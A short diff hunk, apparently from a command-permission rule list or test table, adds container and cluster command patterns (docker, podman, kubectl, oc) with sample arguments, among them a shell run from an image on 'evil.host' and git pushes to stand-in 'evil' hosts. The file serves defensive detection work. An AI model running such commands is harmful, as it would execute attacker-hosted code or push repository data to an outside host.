@@ -248,6 +248,22 @@ python manage.py * | shell
 gh api * | -X
 gh api * | graphql
 gh extension * | install
+docker run * | evil.host/x sh
+podman run * | alpine wget
+podman run alpine * | wget
+docker container run * | x
+docker create * | x
+docker compose run * | web sh
+docker compose run web * | sh
+docker-compose run * | web
+nerdctl run * | x
+podman machine * | ssh
+podman kube * | x
+docker plugin * | x
+docker context * | x
+kubectl run * | x
+kubectl debug * | x
+oc exec * | x
 git push * | evil.host:x main
 git push * | evil:x main
 git push * | ext::evil main
